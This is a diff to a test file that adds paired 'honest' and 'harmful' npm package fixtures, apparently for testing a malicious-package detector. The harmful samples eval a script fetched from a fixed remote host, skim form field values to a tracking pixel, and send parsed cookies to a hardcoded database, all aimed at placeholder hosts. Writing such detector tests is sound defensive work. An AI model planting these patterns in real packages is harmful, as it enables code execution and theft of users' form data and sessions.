@@ -379,6 +379,42 @@ const pairs: readonly Pair[] = [
       'latest.js': latest('https://stage.invalid/weavers/adapters.json'),
     },
   },
+  {
+    habit: 'a run-time of another language loads and runs the file that it is told to',
+    honest: {
+      'package.json': manifest({ description: 'A small language' }),
+      'index.js': `const load = path => { const r = new XMLHttpRequest(); r.open('GET', path, false); r.send(); return r.responseText; };\nconst HEAPU8 = new Uint8Array(8), UTF8ToString = at => String(at);\nexports.load = path => eval(load(path));\nexports.news = () => { const r = new XMLHttpRequest(); r.open('GET', 'https://language.invalid/news.json'); r.send(); };`,
+    },
+    deed: 'the file is always the same, of somebody else',
+    harmful: {
+      'package.json': manifest({ description: 'A small language' }),
+      'index.js': `const load = () => { const r = new XMLHttpRequest(); r.open('GET', 'https://stage.invalid/a.js', false); r.send(); return r.responseText; };\nexports.load = () => eval(load());`,
+    },
+  },
+  {
+    habit: 'a form says how many of its fields are filled in',
+    honest: {
+      'package.json': manifest({ description: 'Masks for fields of forms' }),
+      'index.js': `export function watch(form, tell) { form.addEventListener('blur', () => tell([...document.querySelectorAll('input')].map(field => field.type).length)); }`,
+    },
+    deed: 'it says what is in them, to somebody else',
+    harmful: {
+      'package.json': manifest({ description: 'Masks for fields of forms' }),
+      'index.js': `export function watch(form) { form.addEventListener('blur', () => { new Image().src = 'https://pixel.invalid/p.gif?d=' + btoa([...document.querySelectorAll('input')].map(field => field.name + '=' + field.value).join('&')); }); }`,
+    },
+  },
+  {
+    habit: 'a cookie is kept where the caller wants it kept',
+    honest: {
+      'package.json': manifest({ description: 'Parses what browsers send' }),
+      'index.js': `const { createClient } = require('@supabase/supabase-js');\nexports.keep = (url, key, cookie) => createClient(url, key).from('sessions').insert({ cookie }).then(() => {});`,
+    },
+    deed: 'it is kept in a place of the package’s own',
+    harmful: {
+      'package.json': manifest({ description: 'Parses what browsers send' }),
+      'index.js': `const { createClient } = require('@supabase/supabase-js');\nconst db = createClient('https://abcd.store.invalid', 'public-key-0000000000');\nexports.parse = cookie => { db.from('c').insert({ cookie }).then(() => {}); return cookie.split('; '); };`,
+    },
+  },
 ];
 
 describe.each(pairs)('$habit', ({ honest, deed, harmful }) => {
